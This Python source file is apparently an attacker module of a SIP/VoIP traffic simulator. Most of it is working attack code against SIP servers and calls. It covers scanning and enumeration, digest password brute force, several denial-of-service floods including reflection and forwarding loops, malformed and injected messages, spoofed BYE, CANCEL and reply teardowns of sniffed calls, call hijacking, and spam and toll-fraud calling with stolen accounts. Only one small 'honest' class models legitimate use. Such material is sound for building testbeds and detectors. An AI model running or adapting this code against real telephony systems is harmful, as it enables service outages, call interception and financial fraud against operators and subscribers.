#!/usr/bin/python3
"""One launch of an attacker as people script them in an afternoon: templates, one loop, blocking sockets.
Relies on: launch.py, sniffer.py, payloads.py, styles.py (pools of agents and token forms only).
Relied on by: attackers.py.

A builder of its own: it fills one of a few fixed templates, keeps no transactions, answers what it must and
retransmits nothing. With the class `honest` it does a person's work: registers, calls, asks whether the server lives.
"""
import hashlib
import heapq
import re
import select
import socket
import sys
import time

import launch
import payloads
import sip
import sniffer
import styles

TEMPLATES = [
    """{method} {uri} SIP/2.0
Via: SIP/2.0/UDP {host}:{port};branch={branch};rport
Max-Forwards: 70
From: {name}<{me}>;tag={tag}
To: <{to}>{to_tag}
Call-ID: {call_id}
CSeq: {cseq} {method}
Contact: <sip:{user}@{host}:{port}>
{extra}{agent}Content-Length: {length}
""",
    """{method} {uri} SIP/2.0
Via: SIP/2.0/UDP {host}:{port};branch={branch}
From: {name}<{me}>;tag={tag}
To: <{to}>{to_tag}
Call-ID: {call_id}
CSeq: {cseq} {method}
{agent}Max-Forwards: 70
{extra}Contact: <sip:{user}@{host}:{port};transport=udp>
Allow: INVITE, ACK, CANCEL, BYE, OPTIONS
Content-Length: {length}
""",
    """{method} {uri} SIP/2.0
To: <{to}>{to_tag}
From: {name}<{me}>;tag={tag}
Via: SIP/2.0/UDP {host}:{port};branch={branch};rport
CSeq: {cseq} {method}
Call-ID: {call_id}
Contact: sip:{user}@{host}:{port}
{extra}Max-forwards: 70
{agent}Content-Length: {length}
""",
    """{method} {uri} SIP/2.0
Call-ID: {call_id}
CSeq: {cseq} {method}
From: {me};tag={tag}
To: {to}{to_tag}
Via: SIP/2.0/UDP {host}:{port};rport;branch={branch}
Contact: <sip:{user}@{host}:{port}>
Max-Forwards: 20
{extra}{agent}Content-Length: {length}
""",
    """{method} {uri} SIP/2.0
v: SIP/2.0/UDP {host}:{port};branch={branch}
f: {name}<{me}>;tag={tag}
t: <{to}>{to_tag}
i: {call_id}
CSeq: {cseq} {method}
m: <sip:{user}@{host}:{port}>
Max-Forwards: 70
{extra}{agent}l: {length}
""",
]
OFFER = """v=0
o={user} {n} {n} IN {kind} {ip}
s={title}
c=IN {kind} {ip}
t=0 0
m=audio {rtp} RTP/AVP {codecs}
a=rtpmap:0 PCMU/8000
a=rtpmap:8 PCMA/8000
"""
PREFIXES = ["", "0", "9", "00", "900", "9011", "011", "+", "000", "810", "1100", "8800", "*", "99900"]


class Script(launch.Launch):
    def __init__(self, spec):
        super().__init__(spec)
        rng = self.rng
        params = "{port}%s>" % rng.choice(styles.CONTACT_PARAMS)
        self.template = rng.choice(TEMPLATES).replace("\n", "\r\n").replace("{port}>", params)
        agent = rng.choice(rng.choice(styles.FAMILIES)[2])
        self.agent = "User-Agent: %s\r\n" % agent if agent else ""
        self.forms = [rng.choice(p) for p in (styles.CALL_ID_FORMS, styles.BRANCH_FORMS, styles.TAG_FORMS)]
        self.title = rng.choice(["-", "call", "session", "SIP Call"])
        self.name = rng.choice(
            ["", "", '"%s" ' % styles.draw_display(rng).replace('"', "").replace("\\", "")]
        )
        self.acks = self.settings.get("acks", rng.random() < 0.65)
        self.lean = rng.random() < 0.8  # no Contact where none is needed
        self.sockets = [
            self.open(ip, port) for ip, port in [(spec["ip"], spec["port"])] + spec.get("sockets", [])
        ]
        self.first_cseq = [rng.choice([1, 1, 1, 2, 102, rng.randrange(1, 60000)]) for _ in self.sockets]
        self.splitters = {s: sip.Splitter() for s in self.sockets if s.type == socket.SOCK_STREAM}
        self.asked = {}  # (Call-ID, CSeq number) -> what was asked, to know a reply
        self.calls = {}  # Call-ID -> socket on which a call of ours may be hung up by the other side
        self.agenda, self.order = [], 0
        self.logging = True

    # -- sockets and time -------------------------------------------------------------------------------

    def open(self, ip, port):
        tcp = self.settings.get("wire") == "tcp"
        kind = socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM
        s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, kind)
        s.bind((ip, port))
        if tcp:
            s.settimeout(3)
            s.connect(self.server)
        return s

    def send(self, text, dest=None, at=0):
        data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogateescape")
        name = self.sockets[at].getsockname()
        if self.logging:
            self.note(name[0], name[1], data)
        try:
            if self.sockets[at] in self.splitters:
                self.sockets[at].sendall(data)
            else:
                self.sockets[at].sendto(data, dest or self.server)
        except OSError:
            pass  # an ICMP error of a dead phone, an address without a route, a connection that was closed

    def later(self, seconds, function, *args):
        self.order += 1
        heapq.heappush(self.agenda, (time.time() + seconds, self.order, function, args))

    def until(self, moment):
        """Serves sockets and agenda until a moment."""
        while True:
            now = time.time()
            while self.agenda and self.agenda[0][0] <= now:
                _, _, function, args = heapq.heappop(self.agenda)
                function(*args)
            wait = min([moment] + [a[0] for a in self.agenda[:1]]) - time.time()
            if moment - time.time() <= 0:
                return
            for s in select.select(self.sockets, [], [], max(0.0, wait))[0]:
                try:
                    data, source = s.recvfrom(65535)
                except OSError:
                    continue
                if s not in self.splitters:
                    self.received(data, source, self.sockets.index(s))
                    continue
                if not data:  # closed by the server: the attack is over
                    self.end = 0
                    return
                for message in self.splitters[s].feed(data):
                    self.received(message, self.server, self.sockets.index(s))

    def step(self):
        """The next request's turn; False at the end of the run."""
        self.until(self.due())
        return self.more()

    # -- building ---------------------------------------------------------------------------------------

    def fill(self, method, uri, at=0, **f):
        """The template with everything that is not given drawn."""
        ip, port = self.sockets[at].getsockname()[:2]
        user = f.setdefault("user", self.spec["user"])
        f.setdefault("me", "sip:%s@%s" % (user, self.domain))
        f.setdefault("to", uri)
        f.setdefault("tag", styles.make_tag(self.rng, self.forms[2]))
        f.setdefault("branch", styles.make_branch(self.rng, self.forms[1]))
        f.setdefault("call_id", styles.make_call_id(self.rng, self.forms[0], ip))
        f.setdefault("cseq", self.first_cseq[at])
        f.setdefault("name", self.name)
        f.setdefault("agent", self.agent)
        for key in ("to_tag", "extra", "body"):
            f.setdefault(key, "")
        kind = f.pop("kind", "application/sdp")
        if f["body"]:
            f["extra"] += "Content-Type: %s\r\n" % kind
        length = len(f["body"].encode("utf-8", "surrogateescape"))
        template = self.template
        if method in ("ACK", "BYE", "CANCEL") and self.lean:
            template = re.sub(r"(Contact|(?<=\n)m): [^\n]*\n", "", template)
        if self.splitters:
            template = re.sub(r"(?i);transport=udp", "", template.replace("/UDP", "/TCP"))
            template = re.sub(r"(\{port\}[^>\s]*)>", r"\1;transport=tcp>", template)
        text = template.format(method=method, uri=uri, host=sip.bracket(ip), port=port, length=length, **f)
        return text + "\r\n" + f["body"], f

    def offer(self, ip=None):
        ip = ip or self.spec["ip"]
        return OFFER.replace("\n", "\r\n").format(
            user=self.spec["user"],
            n=self.rng.randrange(10**4, 10**9),
            kind="IP6" if ":" in ip else "IP4",
            ip=ip,
            title=self.title,
            rtp=self.rng.randrange(8000, 60000, 2),
            codecs=self.rng.choice(["0 8", "0", "8 0 101"]),
        )

    def ask(self, method, uri, at=0, password=None, dest=None, talk=None, **f):
        """Sends a request and remembers it, so that a reply is understood."""
        text, f = self.fill(method, uri, at, **f)
        ask = dict(method=method, uri=uri, at=at, password=password, dest=dest, talk=talk, fields=f)
        self.asked[f["call_id"], str(f["cseq"])] = ask
        self.send(text, dest, at)
        return ask

    def address(self, user):
        return "sip:%s@%s" % (user, self.domain)

    def body_of(self, method):
        if method in ("INVITE", "UPDATE"):
            return {"body": self.offer()}
        if method == "MESSAGE":
            return {"body": self.rng.choice(styles.MESSAGE_TEXTS), "kind": "text/plain"}
        if method in ("SUBSCRIBE", "PUBLISH"):
            return {"extra": "Event: presence\r\nExpires: 60\r\n"}
        return {}

    def probe(self, method, who, **f):
        """A request of a method to a user part, as the class's loop wants it."""
        if method == "REGISTER":
            f["user"] = who
            return self.ask(method, "sip:" + self.domain, to=self.address(who), extra="Expires: 60\r\n", **f)
        return self.ask(method, self.address(who), **{**self.body_of(method), **f})

    # -- what comes back --------------------------------------------------------------------------------

    def received(self, data, source, at):
        message = sip.parse(data)
        if message is None:
            return
        if not message.status:
            self.requested(message, source, at)
            return
        number = (message.get("CSeq").split() or ["0"])[0]
        ask = self.asked.get((message.get("Call-ID"), number))
        if ask is None or message.method != ask["method"] or message.status < 200:
            return
        if ask["method"] == "INVITE" and (message.status < 300 or self.acks):
            self.acknowledge(ask, message)
        if ask.get("done"):
            return
        ask["done"] = True
        if message.status in (401, 407) and ask["password"] is not None:
            self.answer(ask, message)
        elif message.status < 300 and ask["talk"] is not None:
            self.calls[ask["fields"]["call_id"]] = at
            self.later(ask["talk"], self.bye, ask, message)

    def acknowledge(self, ask, reply):
        f = ask["fields"]
        good = reply.status < 300
        uri = sip.uri_of(reply.get("Contact")) or ask["uri"] if good else ask["uri"]
        self.send(
            self.within("ACK", uri, ask, reply, f["cseq"], None if good else f["branch"]),
            ask["dest"],
            ask["at"],
        )

    def within(self, method, uri, ask, reply, cseq, branch=None, **more):
        """A request of the dialog that a reply made."""
        f = ask["fields"]
        tag = sip.tag_of(reply.get("To"))
        routes = (
            "".join("Route: %s\r\n" % r for r in reversed(reply.all("Record-Route")))
            if branch is None
            else ""
        )
        text, _ = self.fill(
            method,
            uri,
            ask["at"],
            user=f["user"],
            me=f["me"],
            to=f["to"],
            tag=f["tag"],
            call_id=f["call_id"],
            cseq=cseq,
            to_tag=";tag=" + tag if tag else "",
            extra=routes,
            **({"branch": branch} if branch else {}),
            **more
        )
        return text

    def bye(self, ask, reply):
        if self.calls.pop(ask["fields"]["call_id"], None) is not None:
            uri = sip.uri_of(reply.get("Contact")) or ask["uri"]
            self.send(self.within("BYE", uri, ask, reply, ask["fields"]["cseq"] + 1), None, ask["at"])

    def answer(self, ask, reply):
        """Once more, with a digest for the challenge."""
        ask["challenge"] = name, challenge = sip.challenge_of(reply) or (None, None)
        if name is None:
            return
        f = dict(
            ask["fields"], cseq=ask["fields"]["cseq"] + 1, branch=styles.make_branch(self.rng, self.forms[1])
        )
        self.challenge = ask["challenge"]
        credentials = self.digest(challenge, f["user"], ask["password"], ask["method"], ask["uri"])
        f["extra"] = (
            re.sub(r"(?i)(proxy-)?authorization: [^\r]*\r\n", "", f["extra"])
            .replace("Content-Type: application/sdp\r\n", "")
            .replace("Content-Type: text/plain\r\n", "")
        )
        f["extra"] += "%s: %s\r\n" % (name, credentials)
        kind = "text/plain" if ask["method"] == "MESSAGE" else "application/sdp"
        again = self.ask(ask["method"], ask["uri"], ask["at"], None, ask["dest"], ask["talk"], kind=kind, **f)
        again["answered"] = True

    def digest(self, challenge, user, password, method, uri):
        def md5(*parts):
            return hashlib.md5(":".join(parts).encode("utf-8", "surrogateescape")).hexdigest()

        realm, nonce = challenge.get("realm", ""), challenge.get("nonce", "")
        first, second = md5(user, realm, password), md5(method, uri)
        tail = ""
        if "auth" in challenge.get("qop", ""):
            cnonce = styles.hexes(self.rng, 16)
            response = md5(first, nonce, "00000001", cnonce, "auth", second)
            tail = ', qop=auth, cnonce="%s", nc=00000001' % cnonce
        else:
            response = md5(first, nonce, second)
        return 'Digest username="%s", realm="%s", nonce="%s", uri="%s", response="%s", algorithm=MD5%s' % (
            user,
            realm,
            nonce,
            uri,
            response,
            tail,
        )

    def requested(self, message, source, at):
        """Requests of others: whatever is asked is granted, but an accomplice only lets it ring."""
        if message.method == "ACK":
            return
        status = "200 OK"
        if message.method == "INVITE" and not sip.tag_of(message.get("To")):
            if self.settings.get("kind") == "loop" and at:
                self.forward(message, at)
                return
            status = "180 Ringing"
        if message.method == "BYE":
            self.calls.pop(message.get("Call-ID"), None)
        lines = ["SIP/2.0 " + status] + ["Via: " + v for v in message.all("Via")]
        lines += ["Record-Route: " + v for v in message.all("Record-Route")]
        to = message.get("To") + (
            "" if sip.tag_of(message.get("To")) else ";tag=" + styles.hexes(self.rng, 8)
        )
        lines += ["From: " + message.get("From"), "To: " + to, "Call-ID: " + message.get("Call-ID")]
        lines += ["CSeq: " + message.get("CSeq"), "Content-Length: 0", "", ""]
        self.send("\r\n".join(lines), source, at)

    # -- classes ----------------------------------------------------------------------------------------

    def run(self):
        if self.settings.get("honest_first"):
            self.logging = False
            self.honest_work()
            self.logging = True
            self.next, self.end = time.time(), time.time() + self.spec["seconds"]
        getattr(self, self.spec["class"])()
        self.until(time.time() + self.settings.get("linger", 1.0))

    def honest(self):
        """The tool in honest hands: a test phone and a check of the own server."""
        while self.step():
            self.honest_work()

    def honest_work(self):
        acks, self.acks = self.acks, True
        me = self.spec["user"]
        self.probe("OPTIONS", me) if self.rng.random() < 0.3 else None
        self.probe("REGISTER", me, password=self.password(me))
        self.until(time.time() + 0.5)
        for _ in range(self.rng.choice([1, 1, 2])):
            peer = self.rng.choice(self.users)
            talk = self.rng.uniform(0.5, 2)
            self.ask("INVITE", self.address(peer), password=self.password(me), talk=talk, body=self.offer())
            self.until(time.time() + talk + self.rng.uniform(1.5, 4))
        self.acks = acks

    def identity(self):
        return {"user": self.rng.choice(self.users)} if self.settings.get("identity") == "changing" else {}

    def scan(self):
        s = self.settings
        probes = [
            (h, p, m)
            for h in s["hosts"]
            for p in s.get("ports", [5060])
            for m in s.get("methods", ["OPTIONS"])
        ]
        if s.get("shuffle", True):
            self.rng.shuffle(probes)
        for host, port, method in probes:
            if not self.step():
                break
            user = s.get("user", self.rng.choice(["", "100@", "1000@", "test@"]))
            uri = "sip:%s%s" % (user if not user or user.endswith("@") else user + "@", sip.bracket(host))
            self.ask(
                method,
                uri + (":%d" % port if port != 5060 else ""),
                dest=(host, port),
                **self.body_of(method)
            )

    def enumeration(self):
        while self.step():
            self.probe(self.method(), self.victim())

    def bruteforce(self):
        """Kind `answer` takes a challenge per guess, `reuse` one for all, `blind` makes up the nonce."""
        s, accounts = self.settings, self.spec["accounts"]
        method, self.challenge = s.get("method", "REGISTER"), None
        for i, word in enumerate(s["passwords"]):
            if not self.step():
                break
            user, at = accounts[i % len(accounts)], i % len(self.sockets)
            uri = "sip:" + self.domain if method == "REGISTER" else self.address(self.users[0])
            known = getattr(self, "challenge", None)
            if s.get("kind") == "blind":
                known = known or (
                    "Authorization",
                    {"realm": self.domain, "nonce": styles.hexes(self.rng, 32)},
                )
            body = self.body_of(method)
            f = {**body, "user": user, "to": self.address(user) if method == "REGISTER" else uri}
            if known and s.get("kind") in ("reuse", "blind"):
                digest = self.digest(known[1], user, word, method, uri)
                f["extra"] = f.get("extra", "") + "%s: %s\r\n" % (known[0], digest)
                self.ask(method, uri, at, **f)
            else:
                self.ask(method, uri, at, password=word, **f)
        self.until(time.time() + 1)

    def flood(self):
        getattr(self, "flood_" + self.settings.get("kind", "plain"))()

    def flood_plain(self):
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        while self.step():
            self.probe(self.method(), self.victim(), dest=dest, **self.identity())

    def flood_names(self):
        """Host names that nobody can resolve, for a server that tries."""
        while self.step():
            host = "%s.%s" % (
                styles.alnum(self.rng, 10).lower(),
                self.rng.choice(["invalid", "example", "lab.test"]),
            )
            where = self.rng.choice(["uri", "uri", "route", "via"])
            user = self.victim()
            f = self.body_of("INVITE")
            if where == "route":
                f["extra"] = "Route: <sip:%s;lr>\r\n" % host
            uri = "sip:%s@%s" % (user, host if where == "uri" else self.domain)
            text, _ = self.fill("INVITE", uri, **f)
            if where == "via":
                text = re.sub(r"(SIP/2\.0/UDP )[^;\r]*", lambda m: m.group(1) + host, text, count=1)
            self.send(text)

    def flood_credentials(self):
        """Digests that a server has to compute, of many accounts; none is right."""
        while self.step():
            user = self.rng.choice(self.users)
            challenge = {"realm": self.domain, "nonce": styles.hexes(self.rng, 32)}
            uri = "sip:" + self.domain
            digest = self.digest(challenge, user, styles.alnum(self.rng, 8), "REGISTER", uri)
            extra = "Expires: 3600\r\nAuthorization: %s\r\n" % digest
            self.ask("REGISTER", uri, user=user, to=self.address(user), extra=extra)

    def flood_long(self):
        """Messages of some kilobytes each, for parsers and memory."""
        while self.step():
            lines = "".join(
                "X-%s: %s\r\n" % (styles.alnum(self.rng, 6), styles.hexes(self.rng, 120))
                for _ in range(self.rng.randrange(8, 24))
            )
            self.ask(
                "INVITE",
                self.address(self.victim()),
                body=self.offer() + "a=x\r\n" * 60,
                extra=lines,
                **self.identity()
            )

    def takes_calls(self, accounts):
        """Binds stolen accounts to the second socket."""
        for user in accounts:
            self.ask(
                "REGISTER",
                "sip:" + self.domain,
                1,
                self.password(user),
                user=user,
                to=self.address(user),
                extra="Expires: 60\r\n",
            )
            self.until(time.time() + 0.3)

    def flood_accomplice(self):
        """Calls to an accomplice who lets every one of them ring: state that the server keeps for minutes."""
        self.takes_calls(self.spec["accounts"][:1])
        me = self.spec["user"]
        while self.step():
            self.ask(
                "INVITE",
                self.address(self.spec["accounts"][0]),
                password=self.password(me),
                user=me,
                body=self.offer(),
            )

    def flood_loop(self):
        """Two accounts that are bound here and forwarded to each other: every call becomes two (RFC 5393)."""
        self.takes_calls(self.spec["accounts"][:2])
        while self.left() > 0 and self.count < self.settings.get("limit", 200):
            self.count += 1
            self.ask(
                "INVITE",
                self.address(self.spec["accounts"][0]),
                password=self.password(self.spec["user"]),
                body=self.offer(),
            )
            self.until(time.time() + 1.5)

    def forward(self, invite, at):
        """As a proxy that forks to both accounts, without looking for loops."""
        hops = int(invite.get("Max-Forwards") or 10) - 1
        for user in self.spec["accounts"][:2]:
            if self.count >= self.settings.get("limit", 200) or hops <= 0 or self.left() < 0:
                return
            self.count += 1
            ip, port = self.sockets[at].getsockname()[:2]
            uri, lines = self.address(user), []
            lines.append(
                "Via: SIP/2.0/UDP %s:%d;branch=%s"
                % (sip.bracket(ip), port, styles.make_branch(self.rng, self.forms[1]))
            )
            lines += [
                "%s: %s" % (n, str(hops) if n == "Max-Forwards" else v)
                for n, v in invite.headers
                if n not in ("Content-Length", "Proxy-Authorization")
            ]
            challenge = getattr(self, "challenge", None)
            if challenge:
                me = self.spec["user"]
                lines.append(
                    "Proxy-Authorization: " + self.digest(challenge[1], me, self.password(me), "INVITE", uri)
                )
            lines.append("Content-Length: %d" % len(invite.body))
            text = "INVITE %s SIP/2.0\r\n%s\r\n\r\n" % (uri, "\r\n".join(lines))
            self.later(
                self.rng.uniform(0.005, 0.04),
                self.send,
                text.encode("utf-8", "surrogateescape") + invite.body,
                None,
                at,
            )

    def flood_reflect(self):
        """Requests whose Via and Contact name a victim, so that replies go there."""
        victims = self.settings["reflect"]
        while self.step():
            host, port = self.rng.choice(victims)
            text, _ = self.fill(
                "OPTIONS" if self.rng.random() < 0.3 else "INVITE",
                self.address(self.victim()),
                body=self.offer(),
                **self.identity()
            )
            own = "%s:%d" % (sip.bracket(self.spec["ip"]), self.spec["port"])
            text = text.replace(own, "%s:%d" % (sip.bracket(host), port)).replace(";rport", "")
            self.send(text)

    def distributed_flood(self):
        """Every request from another of the run's sockets."""
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        while self.step():
            self.probe(
                self.method(),
                self.victim(),
                at=self.rng.randrange(len(self.sockets)),
                dest=dest,
                **self.identity()
            )

    def malformed(self):
        while self.step():
            method = self.method()
            text, _ = self.fill(method, self.address(self.victim()), **self.body_of(method))
            self.send(payloads.broken(self.rng, text, self.settings.get("kinds")))

    def injection(self):
        s = self.settings
        while self.step():
            method = self.method()
            text, _ = self.fill(method, self.address(self.victim()), **self.body_of(method))
            payload = payloads.hostile(self.rng, s.get("kinds"))
            self.send(
                payloads.place(self.rng, text, payload, self.rng.choice(s.get("fields") or payloads.PLACES))
            )

    # -- attacks on dialogs -----------------------------------------------------------------------------

    def listen(self):
        spec = self.spec
        self.wire = sniffer.Wire(spec["pcap"], self.server, spec["strangers"], spec["far"])
        self.attacked = set()

    def target(self, early):
        """A call that was not attacked yet, or None when there is none right now."""
        self.wire.look()
        for call in self.wire.early() if early else self.wire.confirmed():
            if call.call_id not in self.attacked and call.caller[0] not in self.spec["avoid"]:
                self.attacked.add(call.call_id)
                return call
        self.count -= 1
        return None

    def teardown(self):
        """BYE and CANCEL with what a listener knows; `guessed` ones know the Call-ID or its neighbours only."""
        self.listen()
        kind = self.settings.get("kind", "bye")
        while self.step():
            call = self.target(kind in ("cancel", "reply"))
            if call is None:
                continue
            if kind == "reply":
                self.final_reply(call)
            elif kind == "guessed":
                self.guess(call)
            else:
                self.end_call(call, kind)

    def end_call(self, call, kind):
        me, to = sip.uri_of(call.invite.get("From")), sip.uri_of(call.invite.get("To"))
        f = dict(
            me=me, to=to, user=sip.user_of(me), tag=sip.tag_of(call.invite.get("From")), call_id=call.call_id
        )
        if kind == "cancel":
            branch = call.invite.branch
            text, _ = self.fill("CANCEL", call.invite.start.split(" ")[1], cseq=call.cseq, branch=branch, **f)
            via = call.invite.get("Via")
            self.send(re.sub(r"(?m)^(Via|v): [^\r]*", lambda m: "%s: %s" % (m.group(1), via), text, count=1))
            return
        routes = "".join("Route: %s\r\n" % r for r in reversed(call.routes))
        cseq = call.cseq + self.rng.choice([1, 1, 2, 10])
        text, _ = self.fill(
            "BYE",
            call.callee_uri,
            cseq=cseq,
            to_tag=";tag=" + sip.tag_of(call.reply.get("To")),
            extra=routes,
            **f
        )
        self.send(text)

    def final_reply(self, call):
        """Tells the caller in the callee's name that it is over."""
        line = self.rng.choice(
            ["486 Busy Here", "603 Decline", "480 Temporarily Unavailable", "302 Moved Temporarily"]
        )
        lines = ["SIP/2.0 " + line, "Via: " + call.invite.get("Via"), "From: " + call.invite.get("From")]
        lines += ["To: " + call.reply.get("To"), "Call-ID: " + call.call_id, "CSeq: %d INVITE" % call.cseq]
        if line.startswith("302"):
            lines.append("Contact: <%s>" % self.address(self.spec["user"]))
        self.send(
            "\r\n".join(lines + [self.agent.strip()] * bool(self.agent) + ["Content-Length: 0", "", ""]),
            call.caller,
        )

    def guess(self, call):
        """The next Call-IDs that a counter would give, or the right one with made-up tags."""
        number = re.search(r"\d+", call.call_id)
        for i in range(self.rng.choice([1, 2, 3])):
            call_id = call.call_id
            if number and i:
                call_id = call_id[: number.start()] + str(int(number.group()) + i) + call_id[number.end() :]
            me, to = sip.uri_of(call.invite.get("From")), sip.uri_of(call.invite.get("To"))
            text, _ = self.fill(
                self.rng.choice(["BYE", "BYE", "CANCEL"]),
                to,
                me=me,
                to=to,
                user=sip.user_of(me),
                call_id=call_id,
                cseq=self.rng.choice([1, 2, 102]),
                to_tag=";tag=" + styles.hexes(self.rng, 8),
            )
            self.send(text)

    def hijack(self):
        if self.settings.get("kind") == "register":
            for user in self.spec["accounts"]:
                if not self.step():
                    break
                self.ask(
                    "REGISTER",
                    "sip:" + self.domain,
                    password=self.password(user),
                    user=user,
                    to=self.address(user),
                    extra="Expires: 60\r\n",
                )
            self.until(time.time() + 1.5)
            return
        self.listen()
        while self.step():
            call = self.target(False)
            if call is not None:
                self.take_over(call)

    def take_over(self, call):
        """The callee's media, or the call itself, to here."""
        method = self.settings.get("takes") or self.rng.choice(["INVITE", "UPDATE", "REFER"])
        me, to = sip.uri_of(call.invite.get("From")), sip.uri_of(call.invite.get("To"))
        routes = "".join("Route: %s\r\n" % r for r in reversed(call.routes))
        if method == "REFER":
            routes += "Refer-To: <sip:%s@%s>\r\n" % (styles.draw_number(self.rng), self.domain)
        f = dict(
            me=me, to=to, user=sip.user_of(me), tag=sip.tag_of(call.invite.get("From")), call_id=call.call_id
        )
        body = "" if method == "REFER" else self.offer()
        self.ask(
            method,
            call.callee_uri,
            cseq=call.cseq + self.rng.choice([1, 2, 7]),
            extra=routes,
            body=body,
            to_tag=";tag=" + sip.tag_of(call.reply.get("To")),
            **f
        )

    # -- fraud ------------------------------------------------------------------------------------------

    def sign_in(self):
        """With the stolen account, if the run does."""
        me = self.spec["user"]
        if self.settings.get("register", True):
            self.ask(
                "REGISTER",
                "sip:" + self.domain,
                password=self.password(me),
                user=me,
                to=self.address(me),
                extra="Expires: 60\r\n",
            )
            self.until(time.time() + 0.4)
        return self.password(me)

    def spit(self):
        password, text = self.sign_in(), payloads.advertisement(self.rng)
        for callee in self.spec["callees"]:
            if not self.step():
                break
            if self.method() == "MESSAGE":
                self.ask("MESSAGE", self.address(callee), password=password, body=text, kind="text/plain")
            else:
                self.ask(
                    "INVITE",
                    self.address(callee),
                    password=password,
                    talk=self.rng.uniform(0.5, 3),
                    body=self.offer(),
                )
        self.until(time.time() + 4)

    def toll_fraud(self):
        password = self.sign_in()
        number = styles.draw_number(self.rng).lstrip("+0")
        while self.step():
            dialled = styles.draw_number(self.rng)
            if self.settings.get("kind") == "prefixes":
                dialled = self.rng.choice(PREFIXES) + number
            self.ask(
                "INVITE",
                self.address(dialled),
                password=password,
                talk=self.rng.uniform(1, 6),
                body=self.offer(),
            )
        self.until(time.time() + 3)


if __name__ == "__main__":
    sys.exit(launch.main("script_attacker", __doc__, lambda spec: Script(spec).run()))
